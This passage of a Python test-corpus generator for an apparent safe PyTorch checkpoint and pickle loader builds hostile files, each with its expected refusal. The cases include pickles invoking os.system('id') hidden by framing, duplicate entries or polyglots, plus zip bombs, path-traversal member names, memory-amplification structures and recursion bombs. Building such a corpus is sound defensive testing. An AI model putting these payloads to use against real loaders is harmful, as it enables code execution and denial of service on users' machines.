        + (MARK + binget(0) * 1000 + APPENDS) * 3000
    add("amp_3m_references.pkl", pickle_of(wide), "amplification", "too_large", "max_objects",
        what="three million references to one string")
    add("amp_memo_entries.pkl",
        pickle_of(NONE + MEMOIZE * 1_000_001, 4), "amplification", "too_large",
        "max_memo_entries", what="1,000,001 memo entries")
    tensors_laugh = laughs_body(levels=8, width=10, leaf=tensor("0", (1,)))
    add("amp_tensor_laughs_long_key.pt",
        torch_zip(pickle_of(str_dict([("k" * 4000, tensors_laugh)])), {"0": float_bytes(1)}),
        "amplification", "too_large", "max_header_bytes",
        what="the same under a 4,000-byte key: 10^8 names of 4 KB each (a 5 KB file that once "
             "exhausted the worker's 1 GiB memory cap while the flattener built names)")
    # One 60 KB key, memo-shared by 999 nested dicts: each tensor's name is 60 MB.
    path = tensor("0", (1,)) + binput(1) + POP
    inner = dct([(binunicode(f"t{i}"), binget(1)) for i in range(10)])
    for _ in range(999):
        inner = EMPTY_DICT + binget(0) + inner + SETITEM
    add("amp_long_path_names.pt",
        torch_zip(pickle_of(binunicode("p" * 60000) + binput(0) + POP + path + inner),
                  {"0": float_bytes(1)}),
        "amplification", "too_large", "max_header_bytes",
        what="a 60 KB key reused at 999 nesting levels: tensor names of 60 MB from a 66 KB file")
    add("amp_tensor_laughs.pt",
        torch_zip(pickle_of(str_dict([("x", tensors_laugh)])), {"0": float_bytes(1)}),
        "amplification", "too_large", "-",
        what="one tensor referenced 10^8 times through nested lists")


# ---------------------------------------------------------------- limits
def limit_cases():
    add("lim_binunicode_4gib.pkl", b"\x80\x02X\xff\xff\xff\xffabc.", "limits", "too_large",
        "max_string_bytes", what="BINUNICODE claiming 4 GiB")
    add("lim_binunicode8_2e63.pkl", b"\x80\x04\x8d" + struct.pack("<Q", 2**63) + b"abc.",
        "limits", "too_large", "max_string_bytes", what="BINUNICODE8 claiming 2^63 bytes")
    add("lim_binbytes8_max.pkl", b"\x80\x04\x8e" + b"\xff" * 8 + b"abc.", "limits", "too_large",
        "max_string_bytes", what="BINBYTES8 claiming 2^64-1 bytes")
    add("lim_bytearray8_huge.pkl", b"\x80\x05\x96" + struct.pack("<Q", 2**40) + b".",
        "limits", "too_large", "max_string_bytes", what="BYTEARRAY8 claiming 1 TiB")
    add("lim_binunicode_past_end.pkl", b"\x80\x02X\x00\x10\x00\x00abc.", "limits", "malformed",
        "runs past the end", what="BINUNICODE length beyond the data")
    add("lim_binstring_negative.pkl", b"T\xff\xff\xff\xffabc.", "limits", "malformed",
        "negative BINSTRING", what="BINSTRING length -1")
    add("lim_long4_negative.pkl", b"\x80\x02\x8b\xff\xff\xff\xff.", "limits", "malformed",
        "negative LONG4", what="LONG4 length -1")
    add("lim_short_binbytes_past_end.pkl", b"\x80\x03C\xffabc", "limits", "malformed",
        "runs past the end", what="SHORT_BINBYTES 255 with 3 bytes")
    add("lim_string_over_cap.pkl", pickle_of(binunicode("A" * 4096)), "limits", "too_large",
        "max_string_bytes", limits={"max_string_bytes": 1024}, what="4 KiB string, 1 KiB cap")
    add("lim_long1_255.pkl", pickle_of(b"\x8a\xff" + b"\x01" * 255), "limits", "too_large",
        "max_int_bytes", what="255-byte LONG1")
    add("lim_long4_1mib.pkl", pickle_of(long4_raw(b"\x07" * (1 << 20))), "limits", "too_large",
        "max_int_bytes", what="1 MiB LONG4")
    add("lim_text_long_60k_digits.pkl", b"L" + b"9" * 60000 + b"L\n.", "limits", "unsupported",
        "64-bit integer", what="protocol-0 LONG of 60,000 digits (quadratic bignum parse)")
    add("lim_text_long_unterminated.pkl", b"L" + b"9" * 100000 + b"L\n.", "limits", "malformed",
        "no terminating newline", what="LONG text longer than a text operand may be")
    add("lim_text_int_overflow.pkl", b"I99999999999999999999\n.", "limits", "unsupported",
        "64-bit integer", what="INT beyond 64 bits")
    add("lim_float_text_garbage.pkl", b"F1e99999x\n.", "limits", "malformed", "FLOAT",
        what="FLOAT text that is not a number")
    nested = EMPTY_LIST * 100_000 + APPEND * 99_999
    add("lim_nested_lists_100k.pkl", pickle_of(nested), "limits", "too_large",
        "max_nesting_depth", what="100,000 nested lists (recursion bomb for naive walkers)")
    add("lim_nested_tuples_5000.pkl", pickle_of(MARK * 5000 + TUPLE * 5000), "limits",
        "too_large", "max_nesting_depth", what="5,000 nested tuples")
    add("lim_nested_marks_20000.pkl", pickle_of(MARK * 20000 + NONE), "limits", "too_large",
        "max_mark_depth", what="20,000 open MARKs")
    add("lim_stack_depth.pkl", pickle_of(NONE + binput(0) + binget(0) * 1_000_001), "limits",
        "too_large", "max_stack_depth", what="1,000,001 values on the stack")
    add("lim_stack_objects.pkl", pickle_of(NONE * 1_000_001), "limits", "too_large",
        "max_objects", what="1,000,001 new objects on the stack (the object cap comes first)")
    deep_dicts = EMPTY_DICT
    for i in range(2000):
        deep_dicts = EMPTY_DICT + binunicode("k") + deep_dicts + SETITEM
    add("lim_nested_dicts_in_zip.pt", state_dict_zip(extra=[("deep", deep_dicts)]), "limits",
        "too_large", "max_nesting_depth", what="2,000 nested dicts inside a state_dict")
    deep_key = integer(1)
    for i in range(1500):
        deep_key = tup(deep_key)
    add("lim_nested_dict_key.pkl", pickle_of(dct([(deep_key, NONE)])), "limits", "too_large",
        "max_nesting_depth", what="1,500-deep tuple as a dict key")
    add("lim_cycle_list.pkl", pickle_of(EMPTY_LIST + binput(0) + binget(0) + APPEND), "limits",
        "malformed", "contains itself", what="L = [L]")
    add("lim_cycle_dict.pkl",
        pickle_of(EMPTY_DICT + binput(0) + binunicode("self") + binget(0) + SETITEM), "limits",
        "malformed", "contains itself", what="d['self'] = d")
    add("lim_cycle_tuple_list.pkl",
        pickle_of(EMPTY_LIST + binput(0) + binget(0) + TUPLE1 + APPEND), "limits", "malformed",
        "contains itself", what="L = [(L,)]")
    add("lim_cycle_set.pkl",
        pickle_of(EMPTY_SET + binput(0) + MARK + binget(0) + ADDITEMS, 4), "limits", "malformed",
        "contains itself", what="a set containing itself")
    add("lim_cycle_od_build_self.pt",
        torch_zip(pickle_of(ordered_dict([("w", tensor("0", (6,)))]) + binput(99) + binget(99)
                            + BUILD), {"0": float_bytes(6)}),
        "limits", "malformed", "contains itself",
        what="OrderedDict whose BUILD attributes are itself")
    add("lim_cycle_in_state_dict.pt",
        torch_zip(pickle_of(ordered_dict([("w", tensor("0", (6,)))]) + binput(50)
                            + binunicode("loop") + lst(binget(50)) + SETITEM),
                  {"0": float_bytes(6)}),
        "limits", "malformed", "contains itself", what="state_dict['loop'] = [state_dict]")
    add("lim_cycle_namespace.pkl",
        pickle_of(glob("argparse", "Namespace") + EMPTY_TUPLE + NEWOBJ + binput(0)
                  + str_dict([("me", binget(0))]) + BUILD),
        "limits", "malformed", "contains itself", policy="checkpoint",
        what="Namespace whose state holds itself")
    add("lim_text_put_huge.pkl", b"\x80\x02Np1099511627776\n.", "limits", "too_large",
        "memo index too large", what="PUT index 2^40")
    add("lim_get_unset_huge.pkl", b"\x80\x02j\xff\xff\xff\xff.", "limits", "malformed",
        "never stored", what="LONG_BINGET of a slot never stored")
    add("lim_memo_before_value.pkl", b"\x80\x02q\x00N.", "limits", "malformed",
        "stack underflow", what="BINPUT with nothing on the stack")
    sparse = NONE + b"".join(long_binput(0xFFFFFFFF - i * 7919) for i in range(2000))
    add("lim_sparse_memo_2000.pkl", pickle_of(sparse), "limits", "ok",
        what="2,000 sparse memo indices near 2^32")
    add("lim_memo_cap_config.pkl", pickle_of(NONE + MEMOIZE * 200, 4), "limits", "too_large",
        "max_memo_entries", limits={"max_memo_entries": 100}, what="memo cap via --limits")
    add("lim_objects_cap_config.pt",
        state_dict_zip(extra=[("l", lst(*([integer(1)] * 5000)))]), "limits", "too_large",
        "max_objects", limits={"max_objects": 2000}, what="object cap via --limits")
    add("lim_header_cap.pt",
        torch_zip(pickle_of(ordered_dict([("n" * 200 + str(i), tensor(str(i), (1,)))
                                          for i in range(100)])),
                  {str(i): float_bytes(1) for i in range(100)}),
        "limits", "too_large", "max_header_bytes", limits={"max_header_bytes": 4096},
        what="safetensors header over a 4 KiB cap")
    add("lim_pickle_cap.pt", state_dict_zip(), "limits", "too_large", "max_pickle_bytes",
        limits={"max_pickle_bytes": 100}, what="data.pkl over a 100-byte cap")


# ---------------------------------------------------------------- zip bombs
def zip_bombs():
    pairs, records = sd_tensors()
    base = torch_zip(pickle_of(ordered_dict(pairs)), records, method=zipfile.ZIP_DEFLATED)
    zeros = zlib.compressobj(9, zlib.DEFLATED, -15)
    bomb_stream = zeros.compress(b"\0" * (1 << 20)) + zeros.flush()  # 1 MiB of zeros, ~1 KiB

    def deflated_storage_zip(numel, claimed_size, stream=bomb_stream):
        data = torch_zip(pickle_of(str_dict([("t", tensor("0", (1,), numel=numel))])),
                         {"0": b"\0" * 64}, method=zipfile.ZIP_DEFLATED)
        # Swap the record's stream for ours and fix both headers (sizes, and the CD offset).
        lh = local_header(data, "archive/data/0")
        n, e = struct.unpack_from("<HH", data, lh + 26)
        start = lh + 30 + n + e
        old_csize = struct.unpack_from("<I", data, lh + 18)[0]
        data = data[:start] + stream + data[start + old_csize:]
        shift = len(stream) - old_csize
        data = patch_u32(data, lh + 14, zlib.crc32(b"\0" * (1 << 20)))
        data = patch_u32(data, lh + 18, len(stream))
        data = patch_u32(data, lh + 22, claimed_size)
        cd = central_header(data, "archive/data/0")
        data = patch_u32(data, cd + 16, zlib.crc32(b"\0" * (1 << 20)))
        data = patch_u32(data, cd + 20, len(stream))
        data = patch_u32(data, cd + 24, claimed_size)
        for pos in find_all(data, b"PK\x01\x02"):  # local offsets after the record moved
            off = struct.unpack_from("<I", data, pos + 42)[0]
            if off > lh:
                data = patch_u32(data, pos + 42, off + shift)
        end = eocd(data)
        data = patch_u32(data, end + 16, struct.unpack_from("<I", data, end + 16)[0] + shift)
        return data

    add("bomb_ratio_4gib.pt", deflated_storage_zip(2**30 - 1, 2**32 - 4), "zip_bomb",
        "too_large", "max_inflate_ratio", what="1 KiB deflate stream claiming 4 GiB")
    add("bomb_honest_1mib.pt", deflated_storage_zip(1 << 18, 1 << 20), "zip_bomb", "too_large",
        "max_inflate_ratio", what="1 MiB of zeros in ~1 KiB (ratio ~1000:1 beyond the cap)",
        limits={"max_inflate_ratio": 100})
    add("bomb_inflates_more.pt", deflated_storage_zip(1024, 4096), "zip_bomb", "malformed",
        "inflates to more bytes", what="directory says 4 KiB, stream inflates to 1 MiB: "
        "refused after the declared 4 KiB (torch refuses another size too)")
    small = zlib.compressobj(9, zlib.DEFLATED, -15)
    small_stream = small.compress(b"\0" * 64) + small.flush()
    add("deflate_trailing_bytes.pt", deflated_storage_zip(16, 64, stream=small_stream + b"hidden"),
        "zip_bomb", "malformed", "bytes after its deflate stream",
        what="bytes hidden after a record's deflate stream, inside its compressed size")
    add("deflate_cut_short.pt", deflated_storage_zip(16, 64, stream=small_stream[:-2]),
        "zip_bomb", "malformed", "deflate stream", what="a record's deflate stream cut short")
    add("deflate_honest_small.pt", deflated_storage_zip(16, 64, stream=small_stream),
        "baseline", "ok", what="the same record, honest")
    add("bomb_inflates_less.pt",
        deflated_storage_zip(1 << 19, 1 << 21, stream=bomb_stream), "zip_bomb", "malformed",
        "inflates to fewer bytes", what="directory says 2 MiB, stream inflates to 1 MiB",
        limits={"max_inflate_ratio": 100000})
    # The CD claims far more compressed bytes than the file holds, so the ratio check passes.
    big = deflated_storage_zip(0x3FFFFFFC, 0xFFFFFFF0)
    lh = local_header(big, "archive/data/0")
    cd = central_header(big, "archive/data/0")
    big = patch_u32(patch_u32(big, lh + 18, 0x00FFFFFF), cd + 20, 0x00FFFFFF)
    add("bomb_compressed_size_lie.pt", big, "zip_bomb", "malformed", "compressed",
        what="directory claims 16 MiB compressed (more than the file holds) so a 4 GiB "
             "record passes the ratio check and is allocated before inflating")
    pkl_bomb = torch_zip(b"\x80\x02" + b"N0" * 200000 + b"N.", {},
                         pkl_method=zipfile.ZIP_DEFLATED)
    add("bomb_data_pkl_ratio.pt", pkl_bomb, "zip_bomb", "too_large", "max_inflate_ratio",
        limits={"max_inflate_ratio": 50}, what="highly compressible data.pkl, ratio cap 50")
    add("bomb_zip_entries.pt",
        torch_zip(pickle_of(NONE), {}, extra=[(f"archive/x/{i}", b"", zipfile.ZIP_STORED)
                                              for i in range(300)]),
        "zip_bomb", "too_large", "entries", limits={"max_zip_entries": 100},
        what="300 entries, cap 100")
    add("bomb_deflated_base_ok.pt", base, "baseline", "ok", what="deflated records, honest")


# ---------------------------------------------------------------- archive tricks
def archive_tricks():
    good = state_dict_zip()
    evil_pkl = pickle_of(call(glob("os", "system"), binunicode("id")))
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        dup = zip_bytes([("archive/data.pkl", pickle_of(ordered_dict()), zipfile.ZIP_STORED),
                         ("archive/data.pkl", evil_pkl, zipfile.ZIP_STORED),
                         ("archive/version", b"3\n", zipfile.ZIP_STORED)])
        dup_rec = zip_bytes([("archive/data.pkl", pickle_of(str_dict([("t", tensor("0", (1,)))])),
                              zipfile.ZIP_STORED),
                             ("archive/data/0", float_bytes(1), zipfile.ZIP_STORED),
                             ("archive/data/0", float_bytes(1, 9), zipfile.ZIP_STORED)])
    add("zip_duplicate_data_pkl.pt", dup, "archive", "malformed", "duplicate entry",
        what="two archive/data.pkl entries, the second hostile")
    add("zip_duplicate_record.pt", dup_rec, "archive", "malformed", "duplicate entry",
        what="two data/0 records with different bytes")
    # Local header name differs from the central directory's (same length).
    lh = local_header(good, "archive/data.pkl")
    add("zip_lh_cd_name_mismatch.pt", patch(good, lh + 30, b"evilve"), "archive", "malformed",
        "local header", what="local header names archive/data.pkl differently (CVE-2025-1944)")
    # Two directory entries pointing at one local header (overlapping entries).
    lh0 = local_header(good, "archive/data/0")
    cd1 = central_header(good, "archive/data/1")
    n1 = struct.unpack_from("<H", good, cd1 + 28)[0]
    assert n1 == len("archive/data/0")
    add("zip_overlapping_entries.pt", patch_u32(good, cd1 + 42, lh0), "archive", "malformed",
        "local header", what="data/1's directory entry points at data/0's local header")
    # Sizes disagree between the headers.
    cd0 = central_header(good, "archive/data/0")
    add("zip_cd_size_bigger.pt",
        patch_u32(patch_u32(good, cd0 + 20, 28), cd0 + 24, 28), "archive", "malformed",
        "data/0", what="CD says 28 bytes, local header 24 (no data descriptor)")
    cdp = central_header(good, "archive/data.pkl")
    add("zip_method_mismatch.pt", patch_u16(good, cdp + 10, 8), "archive", "malformed",
        "local header", what="CD says deflated, local header stored")
    add("zip_method_bzip2.pt",
        patch_u16(patch_u16(good, cdp + 10, 12), lh + 8, 12), "archive", "unsupported",
        "compression method 12", what="bzip2 method in both headers")
    # Flags.
    for bit, code, text, why in (
            (0x0001, "unsupported", "encrypted", "traditional encryption bit"),
            (0x0040, "unsupported", "encrypted", "strong encryption bit (CVE-2025-1945 class)"),
            (0x0020, "unsupported", "flag", "compressed patched data bit"),
            (0x2000, "unsupported", "encrypted", "central directory encryption bit")):
        data = patch_u16(good, cdp + 8, bit)
        data = patch_u16(data, lh + 6, bit)
        add(f"zip_flag_{bit:04x}.pt", data, "archive", code, text, what=why + " on data.pkl")
    add("zip_flag_encrypted_local_only.pt", patch_u16(good, lh + 6, 0x0001), "archive",
        "malformed", "local header", what="encryption bit only in the local header")
    add("zip_flag_utf8_ok.pt", patch_u16(patch_u16(good, cdp + 8, 0x0800), lh + 6, 0x0800),
        "baseline", "ok", what="UTF-8 name flag is fine")
    # Names.
    for slug, name, code, text in (
            ("dotdot", "archive/../evil/data.pkl", "malformed", "unsafe entry name"),
            ("dotdot_prefix", "../archive/data.pkl", "malformed", "unsafe entry name"),
            ("absolute", "/archive/data.pkl", "malformed", "unsafe entry name"),
            ("backslash", "archive\\data.pkl", "malformed", "unsafe entry name"),
            ("outside_prefix", "other/evil.pkl", "malformed", "outside the archive directory"),
            ("no_directory", "data.pkl", "malformed", "not in a subdirectory")):
        entries = [("archive/data.pkl", pickle_of(ordered_dict()), zipfile.ZIP_STORED),
                   (name, evil_pkl, zipfile.ZIP_STORED)]
        if slug == "no_directory":
            entries.reverse()
        add(f"zip_name_{slug}.pt", zip_bytes(entries), "archive", code, text,
            what=f"member named {name!r}")
    nul = zip_bytes([("archive/data.pkl", pickle_of(ordered_dict()), zipfile.ZIP_STORED),
                     ("archive/data/XX", b"", zipfile.ZIP_STORED)])
    for pos in list(find_all(nul, b"archive/data/XX")):
        nul = patch(nul, pos + 13, b"\x00x")
    add("zip_name_nul.pt", nul, "archive", "malformed", "unsafe entry name",
        what="NUL inside a member name")
    # Directory damage.
    end = eocd(good)
    cd_offset = struct.unpack_from("<I", good, end + 16)[0]
    add("zip_eocd_offset_past_end.pt", patch_u32(good, end + 16, len(good) + 1000), "archive",
        "malformed", "zip archive", what="central directory offset past the end")
    add("zip_eocd_count_too_big.pt",
        patch_u16(patch_u16(good, end + 8, 200), end + 10, 200), "archive", "malformed",
        "zip archive", what="EOCD claims 200 entries")
    add("zip_cd_signature_broken.pt", patch(good, cd_offset, b"PK\x09\x09"), "archive",
        "malformed", "zip archive", what="first central header signature corrupted")
    add("zip_first_lh_signature_broken.pt", patch(good, lh, b"PK\x09\x09"), "archive",
        "malformed", "-", what="first local header corrupted: no longer looks like a zip")
    add("zip_lh_signature_broken.pt", patch(good, lh0, b"PK\x09\x09"), "archive", "malformed",
        "zip archive", what="data/0 local header signature corrupted")
    add("zip_empty_archive.pt", zip_bytes([]), "archive", "malformed", "-",
        what="an archive with no entries at all (starts with the EOCD)")
    add("zip_data_pkl_trailing_pickle.pt",
        torch_zip(pickle_of(ordered_dict()) + evil_pkl, {}), "framing", "malformed",
        "bytes after STOP", what="a second pickle after data.pkl's STOP")
    add("zip_comment_with_fake_eocd.pt",
        zip_bytes([("archive/data.pkl", pickle_of(ordered_dict()), zipfile.ZIP_STORED)],
                  comment=b"PK\x05\x06" + b"\0" * 18),
        "archive", "malformed", "zip archive",
        what="zip comment holding a second, empty end-of-directory record")
    add("zip_prepended_pickle.pt", evil_pkl + good, "format", "forbidden_global", "os.system",
        what="hostile pickle prepended to a valid zip (polyglot)")
    add("zip_prepended_benign_pickle.pt", pickle_of(NONE) + good, "format", "malformed",
        "after the pickle's STOP", what="benign pickle prepended to a zip")
    add("zip_appended_garbage.pt", good + b"\x80\x02cos\nsystem\n." * 3, "archive", "malformed",
        "zip archive", what="bytes after the end-of-directory record")


# ---------------------------------------------------------------- truncation and flips
def truncation_and_flips():
    good_zip = state_dict_zip()
    good_legacy = state_dict_legacy()
    good_pickle = pickle_of(str_dict([("a", lst(integer(1), binunicode("xyz"), long1(2**70))),
                                      ("b", b"G" + struct.pack(">d", 1.5))]))
    for label, data in (("zip", good_zip), ("legacy", good_legacy), ("pickle", good_pickle)):
        points = sorted({0, 1, 2, 3, 5, len(data) - 1, len(data) - 2, len(data) - 22}
                        | {len(data) * k // 17 for k in range(1, 17)})
        for cut in points:
            if 0 <= cut < len(data):
                add(f"trunc_{label}_{cut:06d}.pt", data[:cut], "truncation", "malformed",
                    "-", what=f"{label} file cut to {cut} of {len(data)} bytes")
    # Bits with known outcomes.
    lh = local_header(good_zip, "archive/data/0")
    n, e = struct.unpack_from("<HH", good_zip, lh + 26)
    data_start = lh + 30 + n + e
    for i in range(4):
        pos = data_start + 5 * i
        add(f"flip_storage_data_{i}.pt", patch(good_zip, pos, bytes([good_zip[pos] ^ 0x40])),
            "bitflip", "ok", what="a flipped bit inside tensor data is just data")
    cdp = central_header(good_zip, "archive/data.pkl")
    lhp = local_header(good_zip, "archive/data.pkl")
    crc = struct.unpack_from("<I", good_zip, lhp + 14)[0] ^ 1
    add("flip_crc_both_headers.pt", patch_u32(patch_u32(good_zip, lhp + 14, crc), cdp + 16, crc),
        "bitflip", "ok", what="CRC mismatch in both headers: torch does not require CRCs")
    add("flip_crc_local_only.pt", patch_u32(good_zip, lhp + 14, crc), "bitflip", "malformed",
        "local header", what="CRC differs between local header and directory")
    # Seeded random flips: where each lands decides its ending, pinned in FLIP_OUTCOMES.
    rng = random.Random(20260601)
    for label, data in (("zip", good_zip), ("legacy", good_legacy), ("pickle", good_pickle)):
        for i in range(15):
            pos = rng.randrange(len(data))
            bit = 1 << rng.randrange(8)
            code, contains = FLIP_OUTCOMES[(label, i)]
            add(f"flip_random_{label}_{i:02d}.pt", patch(data, pos, bytes([data[pos] ^ bit])),
                "bitflip", code, contains or "-",
                what=f"random bit flip at byte {pos} (mask 0x{bit:02x})")


# How each seeded random flip ends, learned by running them through the CLI and
# the daemon (the same code and message both ways): (source, index) -> (code,
# text the message must contain; a flipped global's name is the flipped name).
# A flip that lands in tensor data, a zip field nobody reads or a byte whose
# new value means the same is just data: "ok".
FLIP_OUTCOMES = {
    ("zip", 0): ("forbidden_global", "topch._utils._rebuild_tensor_v2"),
    ("zip", 1): ("ok", ""),
    ("zip", 2): ("ok", ""),
    ("zip", 3): ("malformed", "zip archive: no readable central directory"),
    ("zip", 4): ("ok", ""),
    ("zip", 5): ("forbidden_global", "collecpions.OrderedDict"),
    ("zip", 6): ("malformed", 'local header of "archive/byteorder" names another file'),
    ("zip", 7): ("malformed", "unknown opcode 0x20"),
    ("zip", 8): ("malformed", "APPEND(S) on a tuple, not a list"),
    ("zip", 9): ("forbidden_global", "torch.FloatStoraoe"),
    ("zip", 10): ("too_large", "string of 1946241832 bytes exceeds max_string_bytes"),
    ("zip", 11): ("ok", ""),
    ("zip", 12): ("ok", ""),
    ("zip", 13): ("malformed", 'local header of "archive/data/0" does not match the central '
                               "directory (uncompressed size)"),
    ("zip", 14): ("malformed", "BINUNICODE runs past the end of the pickle (offset 263"),
    ("legacy", 0): ("malformed", "unknown opcode 0xcb"),
    ("legacy", 1): ("malformed", "unknown opcode 0x08"),
    ("legacy", 2): ("malformed", "unknown opcode 0x6d"),
    ("legacy", 3): ("malformed", "unknown opcode 0x41"),
    ("legacy", 4): ("ok", ""),
    ("legacy", 5): ("malformed", 'legacy storage "1" holds 34 elements but its persistent id '
                                 "declares 2"),
    ("legacy", 6): ("malformed", "unknown opcode 0xa8"),
    ("legacy", 7): ("ok", ""),
    ("legacy", 8): ("malformed", "unknown opcode 0x5b"),
    ("legacy", 9): ("forbidden_global", "torch._utilw._rebuild_tensor_v2"),
    ("legacy", 10): ("forbidden_global", "torch.FloatStkrage"),
    ("legacy", 11): ("forbidden_global", "bollections.OrderedDict"),
    ("legacy", 12): ("forbidden_global", "collections.OrdereDDict"),
    ("legacy", 13): ("malformed", "BINUNICODE string is not valid UTF-8"),
    ("legacy", 14): ("malformed", "BINUNICODE runs past the end of the pickle (offset 258"),
    ("pickle", 0): ("malformed", "unknown opcode 0x2a"),
    ("pickle", 1): ("malformed", "unknown opcode 0x01"),
    ("pickle", 2): ("malformed", "pickle ends without STOP"),
    ("pickle", 3): ("malformed", "APPEND(S) on a dict, not a list"),
    ("pickle", 4): ("too_large", "string of 536870913 bytes exceeds max_string_bytes"),
    ("pickle", 5): ("ok", ""),
    ("pickle", 6): ("ok", ""),
    ("pickle", 7): ("malformed", "unknown opcode 0x2c"),
    ("pickle", 8): ("malformed", "APPEND(S) on a dict, not a list"),
    ("pickle", 9): ("malformed", "unknown opcode 0x45"),
    ("pickle", 10): ("ok", ""),
    ("pickle", 11): ("ok", ""),
    ("pickle", 12): ("malformed", "BINUNICODE runs past the end of the pickle (offset 39"),
    ("pickle", 13): ("malformed", "BINUNICODE runs past the end of the pickle (offset 9,"),
    ("pickle", 14): ("ok", ""),
}


# ---------------------------------------------------------------- framing / encoding
def framing():
    add("frame_straddle.pkl", b"\x80\x04\x95\x03\x00\x00\x00\x00\x00\x00\x00X\x05\x00\x00\x00"
        b"hello.", "framing", "malformed", "straddles", what="BINUNICODE straddles its FRAME")
    add("frame_nested.pkl", b"\x80\x04\x95\x0a\x00\x00\x00\x00\x00\x00\x00\x95\x01\x00\x00"
        b"\x00\x00\x00\x00\x00N.", "framing", "malformed", "FRAME", what="FRAME inside a FRAME")
    add("frame_straddle_global.pkl", b"\x80\x04\x95\x05\x00\x00\x00\x00\x00\x00\x00cos\nsystem\n"
        b"N.", "framing", "malformed", "straddles",
        what="GLOBAL os.system straddles its FRAME: refused as framing before the name is looked up")
    add("frame_too_long.pkl", b"\x80\x04\x95\xff\xff\xff\xff\xff\xff\xff\x7fN.", "framing",
        "malformed", "FRAME longer", what="FRAME length 2^63")
    add("frame_hides_global.pkl",
        b"\x80\x04\x95\x02\x00\x00\x00\x00\x00\x00\x00B\x07\x01\x00\x00cos\nsystem\n"
        + b"X\x02\x00\x00\x00id\x85R.", "framing", "malformed", "-",
        what="FRAME shorter than the BINBYTES inside it hides a GLOBAL (cpython#154848)")
    add("plain_trailing_pickle.pkl", pickle_of(NONE) + pickle_of(call(glob("os", "system"),
                                                                      binunicode("id"))),
        "framing", "malformed", "after the pickle's STOP", what="second pickle after STOP")
    add("plain_payload_then_garbage.pkl",
        pickle_of(call(glob("os", "system"), binunicode("id")))[:-1] + b"\xff\xff", "framing",
        "forbidden_global", "os.system",
        what="broken pickle: payload first, garbage after (nullifAI)")
    add("utf8_invalid.pkl", pickle_of(b"X\x02\x00\x00\x00\xc3\x28"), "framing", "malformed",
        "UTF-8", what="invalid UTF-8 in BINUNICODE")
    add("utf8_surrogate.pkl", pickle_of(b"X\x03\x00\x00\x00\xed\xa0\x80"), "framing",
        "malformed", "UTF-8", what="encoded lone surrogate")
    add("utf8_overlong.pkl", pickle_of(b"X\x02\x00\x00\x00\xc0\xaf"), "framing", "malformed",
        "UTF-8", what="overlong encoding of '/'")
    add("utf8_py2_str.pkl", pickle_of(short_binstring(b"\xff\xfe")), "framing", "malformed",
        "UTF-8", what="Python 2 str that is not UTF-8")
    add("unicode_text_surrogate.pkl", b"V\\ud800\n.", "framing", "malformed", "surrogate",
        what="protocol-0 UNICODE with a lone surrogate escape")
    add("string_text_unquoted.pkl", b"Sabc\n.", "framing", "malformed", "not quoted",
        what="protocol-0 STRING without quotes")
    add("string_text_bad_escape.pkl", b"S'a\\qb'\n.", "framing", "unsupported", "escape",
        what="protocol-0 STRING with an unknown escape")
    add("proto_6.pkl", b"\x80\x06N.", "framing", "unsupported", "protocol 6",
        what="protocol 6")
    add("proto_255.pkl", b"\x80\xffN.", "framing", "unsupported", "protocol 255",
        what="protocol 255")
    add("opcode_unknown.pkl", b"\x80\x02\xff.", "framing", "malformed", "unknown opcode 0xff",
        what="opcode 0xff")
    add("opcode_next_buffer.pkl", b"\x80\x05\x97.", "framing", "unsupported",
        "out-of-band", what="NEXT_BUFFER")
    add("opcode_readonly_buffer.pkl", b"\x80\x05N\x98.", "framing", "unsupported",
        "out-of-band", what="READONLY_BUFFER")


# ---------------------------------------------------------------- foreign formats
def formats():
    tar = bytearray(1024)
    tar[0:12] = b"archive/data"
    tar[257:263] = b"ustar\x00"
    add("format_tar.pt", bytes(tar), "format", "unsupported", "tar",
        what="pre-1.0 tar checkpoint layout")
    add("format_7z.pt", b"7z\xbc\xaf\x27\x1c" + bytes(64), "format", "malformed",
        "unknown opcode", what="7z container")
    npy = b"\x93NUMPY\x01\x00v\x00{'descr': '|O', 'fortran_order': False, 'shape': (1,), }" \
        + b" " * 40 + b"\n" + pickle_of(call(glob("os", "system"), binunicode("id")))
    add("format_npy_object.npy", npy, "format", "malformed", "-",
        what="numpy .npy with an object array pickle")
    add("format_empty.pt", b"", "format", "malformed", "empty", what="empty file")
    add("format_pytorch1_preview.pt", b"PYTORCH1" + bytes(64), "format", "malformed", "-",
        what="preview-release PYTORCH1 file")
    add("format_safetensors.pt",
        struct.pack("<Q", 2) + b"{}", "format", "malformed", "-",
        what="a safetensors file handed in as a checkpoint")
    add("format_gzip.pt", b"\x1f\x8b\x08\x00" + bytes(32), "format", "malformed",
        "unknown opcode", what="gzip stream")


# ---------------------------------------------------------------- name collisions
def name_collisions():
    rec = {"0": float_bytes(6), "1": float_bytes(6, 1)}
    add("names_collide.pt",
        torch_zip(pickle_of(ordered_dict([("a.b", tensor("0", (6,))),
                                          ("a", str_dict([("b", tensor("1", (6,)))]))])), rec),
        "naming_collision", "malformed", "same name", what="'a.b' and ['a']['b']")
    add("names_metadata_tensor.pt",
        torch_zip(pickle_of(ordered_dict([("__metadata__", tensor("0", (6,)))])), rec),
        "naming_collision", "malformed", "__metadata__", what="a tensor named __metadata__")
    add("names_alias_overrides_format.pt",
        torch_zip(pickle_of(ordered_dict([("a", tensor("0", (6,))),
                                          ("format", tensor("0", (6,)))])), rec),
        "naming_collision", "malformed", "reserved",
        what="tied weight alias named 'format' would overwrite __metadata__['format']")
    add("names_alias_overrides_object.pt",
        torch_zip(pickle_of(ordered_dict([("a", tensor("0", (6,))),
                                          ("picklejail.object", tensor("0", (6,)))])), rec),
        "naming_collision", "malformed", "reserved",
        what="alias named picklejail.object")
    add("names_int_bool_keys_collide.pt",
        torch_zip(pickle_of(dct([(integer(1), tensor("0", (6,))),
                                 (binunicode("1"), tensor("1", (6,)))])), rec),
        "naming_collision", "malformed", "same name", what="keys 1 and '1'")


BUILDERS = [baselines, code_globals, naming, nested, training_sabotage, persistent_ids,
            torchscript, legacy, size_lies, type_confusion, amplification, limit_cases,
            zip_bombs, archive_tricks, truncation_and_flips, framing, formats, name_collisions]


def build_cases():
    """Every case, in a fixed order (built once per process)."""
    if not CASES:
        for builder in BUILDERS:
            builder()
    return list(CASES)


def expected_table(cases) -> str:
    import json
    lines = ["file\tclass\tcode\tcontains\tpolicy\tlimits\twhat\tknown_bug"]
    for c in cases:
        limits = json.dumps(c.limits, sort_keys=True) if c.limits else "-"
        contains = c.contains if c.contains else "-"
        lines.append("\t".join([c.name, c.cls, c.code, contains.replace("\t", " "), c.policy,
                                limits, c.what.replace("\t", " "),
